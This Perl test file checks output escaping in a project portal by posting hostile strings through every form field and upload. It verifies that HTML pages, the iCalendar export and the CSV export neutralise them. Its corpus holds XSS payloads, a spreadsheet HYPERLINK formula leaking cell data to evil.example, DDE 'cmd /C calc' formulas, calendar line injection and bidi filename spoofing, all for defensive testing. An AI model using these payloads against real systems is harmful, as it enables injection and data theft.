# Output escaping in the project areas: KPTest's hostile strings (as in escaping.t), plus CR/LF
# and calendar line injection, spreadsheet formulas, bidirectional and zero-width characters,
# invalid UTF-8 and 64 KiB, goes through the real forms into every free-text field that reaches
# a page: customer and staff messages, job requests (title, description, place, the staff's
# answer), shifts and time entries (activity, note), employees, resources (name, unit) and
# document names (multipart upload, portal and admin). Each value is either stored exactly
# (trimmed) and shown as text on every page that shows it, in portal and administration, in
# planning.ics (RFC 5545 TEXT escaping, folded lines, no injected line) and in times.csv
# (RFC 4180, formulas neutralised), or refused with 400, the message next to the field, and
# nothing stored.
use strict;
use warnings FATAL => 'all';
use utf8;
use Apache::Test qw(-withtestmore);
use Encode qw(encode_utf8 decode_utf8);
use HTTP::Request::Common ();
use URI::Escape qw(uri_escape);
use lib 't/lib';
use KPTest;

my $BIG = '<script>alert(9)</script>' x 2622;   # 65,550 bytes
my @corpus = (
    hostile_strings(),
    "Zoë \x{202E}gnp.exe \x{200B}\x{200D}\x{FEFF} 😀 ü \\ ' \"",
    "Rechnung \x{202E}fdp.exe\x{202C} \x{2067}\x{200F}x\x{2069}",
    "Zeile 1\r\nZeile 2\rZeile 3\nEND:VEVENT\r\nBEGIN:VEVENT\r\nSUMMARY:eingeschleust",
    '=HYPERLINK("http://evil.example/?"&A1;"Klick")',
    "+1+cmd|' /C calc'!A0",
    '@SUM(1+1)*cmd|"/C calc"!A0',
    "Semikolon; Komma, Backslash\\ \"Zitat\" Tab\tEnde",
    ('ÄÖÜß' x 30) . ('😀' x 20),
    $BIG,
);
my $INVALID = "ung\xC3\x28ltig \xFF\xFE \xED\xA0\x80";   # bytes: never valid UTF-8

sub trim { my $s = shift; $s =~ s/^[ \t\r\n\x0B\f]+|[ \t\r\n\x0B\f]+$//g; return $s }
# A text as the server stores and counts it: trimmed, each line break (CR LF, a lone CR) one LF,
# as a textarea's maxlength counts it.
sub typed { my $s = trim(shift); $s =~ s/\r\n?/\n/g; return $s }
sub flat { my $s = shift; $s =~ s/\s+/ /g; return $s }
sub chars { length typed($_[0]) }

my ($pid) = make_portal('esc-bereiche');
my $customer = HTTP::Cookies->new;
my $staff = HTTP::Cookies->new;
fresh_agent();
use_jar($customer);
login_as('portal', 'esc-bereiche', demo_password('kunde'));
use_jar($staff);
login_as('admin', 'admin');
my $admin_csrf = page_csrf('/admin/employees');
use_jar($customer);
my $portal_csrf = page_csrf("/portal/projects/$pid/messages");

# A urlencoded POST of UTF-8 text (or of raw bytes, for the invalid case).
sub post_text {
    my ($path, @fields) = @_;
    my (@enc, %seen);
    @fields = map { @$_ } reverse grep { !$seen{$_->[0]}++ }
              reverse map { [@fields[2 * $_, 2 * $_ + 1]] } 0 .. $#fields / 2;   # the last value of a name wins
    while (my ($k, $v) = splice @fields, 0, 2) {
        push @enc, uri_escape($k) . '=' . uri_escape($v eq $INVALID ? $v : encode_utf8($v));
    }
    return Apache::TestRequest::POST($path, 'Content-Type' => 'application/x-www-form-urlencoded',
                                     Content => join('&', @enc));
}
sub token_of { my ($path) = @_; get_page($path)->decoded_content =~ /name="form_token" value="([^"]+)"/; $1 }
sub count { db_value($_[0]) }
# A text column exactly as stored (the client's batch output would escape line breaks).
sub db_text { my $hex = db_value("SELECT HEX($_[0])"); return decode_utf8(pack 'H*', $hex) }

my @stored;    # [area, field, text] of every value that was stored

# try(label, limit, text, error id, count query, post sub [, value]): the post must be 303 and
# add a row (whose value, an SQL expression, is the trimmed text) when the text fits, else 400
# with the message next to the field and no row.
sub last_of { my ($col, $table, $where) = @_; "(SELECT $col FROM $table WHERE $where ORDER BY id DESC LIMIT 1)" }
sub try {
    my ($label, $limit, $text, $error_id, $count_sql, $post, $value_sql) = @_;
    my $before = count($count_sql);
    my $res = $post->($text);
    my $fits = chars($text) <= $limit && chars($text) > 0;
    my $short = length($text) > 40 ? substr($text, 0, 30) . '…(' . length($text) . ')' : $text;
    $short =~ s/[\r\n]/⏎/g;
    if ($fits) {
        is($res->code, 303, "$label '$short': stored");
        is(count($count_sql) - $before, 1, '... one row');
        is(db_text($value_sql), typed($text), '... holding the text exactly') if $value_sql;
    }
    else {
        is($res->code, 400, "$label '$short': refused with 400");
        ok($res->decoded_content =~ /id="\Q$error_id\E"/, "... the message next to the field ($error_id)");
        is(count($count_sql), $before, '... nothing stored');
        my (undef, $bad) = html_inspect($res->decoded_content);
        is("@$bad", '', '... the form shown again with what was typed, escaped');
    }
    return $fits;
}
sub try_invalid {
    my ($label, $count_sql, $post) = @_;
    my $before = count($count_sql);
    my $res = $post->($INVALID);
    is($res->code, 400, "$label, invalid UTF-8: 400");
    like($res->decoded_content, qr/kein gültiges UTF-8/, '... saying why');
    is(count($count_sql), $before, '... nothing stored');
}

# ---- Messages, customer and staff ----
my $msg_count = "SELECT COUNT(*) FROM message WHERE project_id = $pid";
for my $text (@corpus) {
    use_jar($customer);
    push @stored, ['message', 'body', $text] if try('customer message', 5000, $text, 'body-error', $msg_count, sub {
        post_text("/portal/projects/$pid/messages", csrf => $portal_csrf,
                  form_token => token_of("/portal/projects/$pid/messages"), body => $_[0]) },
        last_of('body', 'message', "project_id = $pid"));
    use_jar($staff);
    push @stored, ['message', 'body', "Team: $text"] if try('staff message', 5000, "Team: $text", 'body-error', $msg_count, sub {
        post_text("/admin/projects/$pid/messages", csrf => $admin_csrf,
                  form_token => token_of("/admin/projects/$pid/messages"), body => $_[0]) },
        last_of('body', 'message', "project_id = $pid"));
}
use_jar($customer);
try_invalid('customer message', $msg_count, sub { post_text("/portal/projects/$pid/messages", csrf => $portal_csrf, body => $_[0]) });
use_jar($staff);
try_invalid('staff message', $msg_count, sub { post_text("/admin/projects/$pid/messages", csrf => $admin_csrf, body => $_[0]) });

# ---- Job requests: every text field, then the staff's answer ----
use_jar($customer);
my $req_count = "SELECT COUNT(*) FROM service_request WHERE project_id = $pid";
my $n = 0;
for my $text (@corpus) {
    $n++;
    my $post = sub { my %f = (title => "Auftrag $n", description => 'Beschreibung', place => '', @_);
                     post_text("/portal/projects/$pid/requests", csrf => $portal_csrf,
                               form_token => token_of("/portal/projects/$pid/requests"), %f, desired_date => '2027-04-01') };
    if (chars($text) <= 200) {   # all three at once
        try('job request (title, description, place)', 200, $text, 'title-error', $req_count,
            sub { $post->(title => $_[0], description => $_[0], place => $_[0]) },
            last_of('description', 'service_request', "project_id = $pid"))
            or next;
        is(db_text(last_of('title', 'service_request', "project_id = $pid")), typed($text), '... and the title');
        is(db_text(last_of('place', 'service_request', "project_id = $pid")), typed($text), '... and the place');
        push @stored, map { ['request', $_, $text] } qw(title description place);
        my $rid = db_value("SELECT MAX(id) FROM service_request WHERE project_id = $pid");
        use_jar($staff);
        my $res = post_text("/admin/requests/$rid", csrf => $admin_csrf, action => 'done', answer => "Antwort: $text");
        is($res->code, 303, '... the staff\'s answer with it: stored');
        is(db_text("(SELECT answer FROM service_request WHERE id = $rid)"), typed("Antwort: $text"), '... exactly');
        push @stored, ['request', 'answer', "Antwort: $text"];
        use_jar($customer);
    }
    else {
        try("job request $_", { title => 200, description => 5000, place => 500 }->{$_}, $text, "$_-error",
            $req_count, do { my $f = $_; sub { $post->($f => $_[0]) } }) for qw(title description place);
    }
}
try('job request with a hostile desired date', 0, '<script>alert(1)</script>', 'desired_date-error', $req_count,
    sub { post_text("/portal/projects/$pid/requests", csrf => $portal_csrf, title => 'Datum', description => 'x',
                    desired_date => $_[0]) });
try_invalid('job request', $req_count, sub { post_text("/portal/projects/$pid/requests", csrf => $portal_csrf,
                                                         title => $_[0], description => 'x') });
use_jar($staff);
my $rid = db_value("SELECT MAX(id) FROM service_request WHERE project_id = $pid");
my $answer_before = db_value("SELECT CONCAT(state, '|', answer) FROM service_request WHERE id = $rid");
my $res = post_text("/admin/requests/$rid", csrf => $admin_csrf, action => 'reject', answer => $BIG);
is($res->code, 400, 'a 64 KiB answer: 400');
like($res->decoded_content, qr/class="field-error"/, '... with the message at the request');
is(db_value("SELECT CONCAT(state, '|', answer) FROM service_request WHERE id = $rid"), $answer_before, '... nothing changed');

# ---- Employees, shifts, time entries, resources (staff), shown in the portal ----
my $emp_count = "SELECT COUNT(*) FROM employee WHERE tenant_id = (SELECT tenant_id FROM project WHERE id = $pid)";
my $shift_count = "SELECT COUNT(*) FROM plan_entry WHERE project_id = $pid";
my $time_count = "SELECT COUNT(*) FROM time_entry WHERE project_id = $pid";
my $res_count = "SELECT COUNT(*) FROM resource_entry WHERE project_id = $pid";
$n = 0;
for my $text (@corpus) {
    $n++;
    my $day = sprintf '2027-03-%02d', $n;
    my $emp = '';
    if (try('employee name', 200, $text, 'employee-name-error', $emp_count,
            sub { post_text('/admin/employees', csrf => $admin_csrf, name => $_[0]) },
            last_of('name', 'employee', '1'))) {
        $emp = db_value("SELECT MAX(id) FROM employee");
        push @stored, ['employee', 'name', $text];
    }
    for my $f (['activity', 200], ['note', 2000]) {
        my ($field, $limit) = @$f;
        my %shift = (date => $day, from => '08:00', to => '12:00', employee => $emp, activity => "Schicht $n", note => '');
        push @stored, ['shift', $field, $text], ['shift', 'employee', $text]
            if try("shift $field", $limit, $text, "shift-$field-error", $shift_count,
                   sub { post_text("/admin/projects/$pid/planning", csrf => $admin_csrf, %shift, $field => $_[0]) },
                   last_of($field, 'plan_entry', "project_id = $pid"));
        my %entry = (date => $day, minutes => '60', employee => $emp, activity => "Einsatz $n", note => '');
        push @stored, ['time', $field, $text]
            if try("time entry $field", $limit, $text, "entry-$field-error", $time_count,
                   sub { post_text("/admin/projects/$pid/times", csrf => $admin_csrf, %entry, $field => $_[0]) },
                   last_of($field, 'time_entry', "project_id = $pid"));
    }
    for my $f (['name', 200], ['unit', 20]) {
        my ($field, $limit) = @$f;
        my %r = (date => $day, kind => 'material', name => "Material $n", quantity => '1', unit => 'Stk');
        push @stored, ['resource', $field, $text]
            if try("resource $field", $limit, $text, "resource-$field-error", $res_count,
                   sub { post_text("/admin/projects/$pid/resources", csrf => $admin_csrf, %r, $field => $_[0]) },
                   last_of($field, 'resource_entry', "project_id = $pid"));
    }
}
try_invalid('employee name', $emp_count, sub { post_text('/admin/employees', csrf => $admin_csrf, name => $_[0]) });
try_invalid('shift note', $shift_count, sub { post_text("/admin/projects/$pid/planning", csrf => $admin_csrf,
    date => '2027-03-20', from => '08:00', to => '09:00', activity => 'x', note => $_[0]) });
try_invalid('time entry activity', $time_count, sub { post_text("/admin/projects/$pid/times", csrf => $admin_csrf,
    date => '2027-03-20', minutes => '30', activity => $_[0]) });
try_invalid('resource name', $res_count, sub { post_text("/admin/projects/$pid/resources", csrf => $admin_csrf,
    date => '2027-03-20', kind => 'material', name => $_[0], quantity => '1') });

# ---- Document names: multipart uploads as a browser sends them (WHATWG: '"' as %22, CR and
# LF as %0D and %0A), on both sides ----
sub upload {
    my ($side, $name_bytes) = @_;
    (my $enc = $name_bytes) =~ s/"/%22/g;
    $enc =~ s/\r/%0D/g;
    $enc =~ s/\n/%0A/g;
    my $body = "--GrEnZe\r\nContent-Disposition: form-data; name=\"visible\"\r\n\r\n1\r\n"
             . "--GrEnZe\r\nContent-Disposition: form-data; name=\"file\"; filename=\"$enc\"\r\n"
             . "Content-Type: application/pdf\r\n\r\n%PDF-1.4 Testinhalt\r\n--GrEnZe--\r\n";
    my $csrf = $side eq 'portal' ? $portal_csrf : $admin_csrf;
    return Apache::TestRequest::POST("/$side/projects/$pid/documents?csrf=$csrf",
        'Content-Type' => 'multipart/form-data; boundary=GrEnZe', Content => $body);
}
my $doc_count = "SELECT COUNT(*) FROM document WHERE project_id = $pid";
my @docs;   # [id, stored name, sent text]
my $uploads = 0;
for my $side (qw(portal admin)) {
    use_jar($side eq 'portal' ? $customer : $staff);
    for my $text (@corpus, $INVALID) {
        my $before = count($doc_count);
        my $bytes = $text eq $INVALID ? $text : encode_utf8($text);
        my $res = upload($side, $bytes);
        my $label = "$side upload, file name #" . ++$uploads;
        if ($res->code == 303) {
            is(count($doc_count) - $before, 1, "$label: stored once");
            my $id = db_value("SELECT MAX(id) FROM document WHERE project_id = $pid");
            my $name = db_text("(SELECT name FROM document WHERE id = $id)");
            ok($name ne '' && $name !~ /[\x00-\x1f\x7f\/\\\x{200E}\x{200F}\x{202A}-\x{202E}\x{2066}-\x{2069}\x{061C}]/
               && length($name) <= 255,
               '... under a clean name (no control or bidirectional characters, no path, at most 255 characters)');
            my $plain = $text ne $INVALID && $text !~ /[\/\\\r\n\t\x{202E}]/ && length(encode_utf8(trim($text))) <= 250;
            ok(!$plain || $name eq trim($text), '... the name as sent where it was a plain name');
            push @docs, [$id, $name, $text];
            push @stored, ['document', 'name', $name];
        }
        else {
            is($res->code, 400, "$label: refused with 400");
            like($res->decoded_content, qr/id="file-error"/, '... the message next to the file field');
            is(count($doc_count), $before, '... nothing stored');
        }
    }
}
ok(scalar(@docs) >= 2 * (@corpus - 1), 'every file name but the 64 KiB one was stored: ' . scalar @docs);

# Downloads: Content-Disposition is one header line whose filename* gives the name back exactly.
for my $d (@docs) {
    for my $side (qw(portal admin)) {
        use_jar($side eq 'portal' ? $customer : $staff);
        my $r = get_page("/$side/projects/$pid/documents/$d->[0]");
        my @cd = $r->header('Content-Disposition');
        my ($ascii, $ext) = ($cd[0] // '') =~ /^attachment; filename="([\x20-\x21\x23-\x5b\x5d-\x7e]*)"; filename\*=UTF-8''([A-Za-z0-9!#\$&+\-.^_`|~%]*)$/;
        ok(@cd == 1 && defined $ext, "$side download of document $d->[0]: a well-formed Content-Disposition")
            or diag($cd[0]);
        is(defined $ext ? decode_utf8(URI::Escape::uri_unescape($ext)) : undef, $d->[1], '... naming the file as stored');
    }
}

# ---- Every page that shows these fields ----
my %pages = (
    portal => { map { $_ => "/portal/projects/$pid/$_" } qw(messages requests planning times documents) },
    admin  => { messages => "/admin/projects/$pid/messages", requests => '/admin/requests',
                planning => "/admin/projects/$pid/planning?week=2027-03-01",
                times => "/admin/projects/$pid/times?month=2027-03", documents => "/admin/projects/$pid/documents",
                employees => '/admin/employees', audit => '/admin/audit' },
);
my %shows = (   # area => pages (side/page) that show its fields
    message => ['portal/messages', 'admin/messages'],
    request => ['portal/requests', 'admin/requests'],
    shift => ['portal/planning', 'admin/planning'],
    time => ['portal/times', 'admin/times'],
    resource => ['portal/times', 'admin/times'],
    employee => ['admin/employees', 'portal/times', 'admin/times'],
    document => ['portal/documents', 'admin/documents'],
);
my %html;
for my $side (qw(portal admin)) {
    use_jar($side eq 'portal' ? $customer : $staff);
    for my $page (sort keys %{ $pages{$side} }) {
        my $r = get_page($pages{$side}{$page});
        is($r->code, 200, "$side $page page");
        my (undef, $bad) = html_inspect($r->decoded_content);
        is("@$bad", '', "$side $page page: nothing injected");
        $html{"$side/$page"} = flat((html_inspect($r->decoded_content))[0]);
    }
}
for my $s (@stored) {
    my ($area, $field, $text) = @$s;
    for my $page (@{ $shows{$area} }) {
        ok(index($html{$page}, flat(trim($text))) >= 0, "$page shows the $area $field as text: "
           . substr(flat($text), 0, 40));
    }
}

# ---- planning.ics: RFC 5545 ----
use_jar($customer);
$res = get_page("/portal/projects/$pid/planning.ics");
my $ics = $res->content;
is($res->code, 200, 'planning.ics');
my @physical = split /\r\n/, $ics, -1;
is(pop(@physical), '', 'every line ends with CRLF');
is(scalar(grep { /[\r\n]/ } @physical), 0, 'no bare CR or LF inside a line');
is(scalar(grep { length($_) > 75 } @physical), 0, 'no line longer than 75 octets (folded)');
is(scalar(grep { my $copy = $_; !defined eval { decode_utf8($copy, Encode::FB_CROAK) } } @physical), 0,
   'folding never splits a UTF-8 character');
my @logical;
for (@physical) { if (/^[ \t]/) { $logical[-1] .= substr($_, 1) } else { push @logical, $_ } }
my (@events, $ev);
my $bad_text = 0;
for my $line (map { decode_utf8($_) } @logical) {
    if ($line eq 'BEGIN:VEVENT') { $ev = {}; next }
    if ($line eq 'END:VEVENT') { push @events, $ev; undef $ev; next }
    next unless $ev && $line =~ /^(SUMMARY|DESCRIPTION|LOCATION):(.*)$/;
    my ($prop, $v) = ($1, $2);
    my $out = '';
    while ($v =~ /\G(?:\\([\\;,nN])|([;,])|(.))/gs) {
        if (defined $1) { $out .= $1 =~ /n/i ? "\n" : $1 } elsif (defined $2) { $bad_text++ } else { $out .= $3 }
    }
    $ev->{$prop} = $out;
}
is($bad_text, 0, 'no unescaped ; or , in a TEXT value');
is(scalar(@events), count($shift_count), 'one VEVENT per shift: nothing injected as an event of its own');
my $project_name = db_text("(SELECT name FROM project WHERE id = $pid)");
for my $s (grep { $_->[0] eq 'shift' && $_->[1] ne 'employee' } @stored) {
    my $want = typed($s->[2]);
    my $found = grep { ($_->{SUMMARY} // '') =~ /^\Q$want\E( – |$)/ || ($_->{DESCRIPTION} // '') eq "$project_name\n$want"
                       || ($_->{SUMMARY} // '') =~ / – \Q$want\E$/ } @events;
    ok($found, "planning.ics carries the shift $s->[1] exactly: " . substr(flat($s->[2]), 0, 40));
}

# ---- times.csv: RFC 4180, formulas neutralised (portal, German: ';'; admin) ----
sub csv_records {
    my ($data) = @_;
    $data =~ s/^\xEF\xBB\xBF//;
    my $sep = $data =~ /^[^\r\n]*;/ ? ';' : ',';
    my (@rows, @row, $field);
    my $bad = 0;
    while (length $data) {
        if ($data =~ s/^"((?:[^"]|"")*)"//s) { ($field = $1) =~ s/""/"/g }
        elsif ($data =~ s/^([^$sep"\r\n]*)//) { $field = $1 }
        push @row, decode_utf8($field);
        if ($data =~ s/^$sep//) { next }
        elsif ($data =~ s/^\r\n//) { push @rows, [@row]; @row = () }
        else { $bad++; last }
    }
    return ($bad, @rows);
}
for my $side (qw(portal admin)) {
    use_jar($side eq 'portal' ? $customer : $staff);
    my $r = get_page("/$side/projects/$pid/times.csv?month=2027-03");
    my ($bad, @rows) = csv_records($r->content);
    is($bad, 0, "$side times.csv: well-formed RFC 4180 (CRLF records, quoted fields)");
    is(scalar(@rows) - 1, count($time_count), '... one record per time entry');
    my @cells = map { @$_ } @rows[1 .. $#rows];
    is(scalar(grep { /^[=+\-@\t\r]/ && !/^[+-]?\d+(?:[.,]\d+)?$/ } @cells), 0,
       '... no cell a spreadsheet would run as a formula');
    for my $s (grep { $_->[0] eq 'time' } @stored) {
        my $want = typed($s->[2]);
        my $formula = $want =~ /^ *[=+\-@]/ || $want =~ /^[\t\r]/;
        ok(grep({ $_ eq ($formula ? "'$want" : $want) } @cells),
           "$side times.csv carries the $s->[1] " . ($formula ? "with a leading apostrophe" : 'exactly')
           . ': ' . substr(flat($want), 0, 40));
    }
}

done_testing();
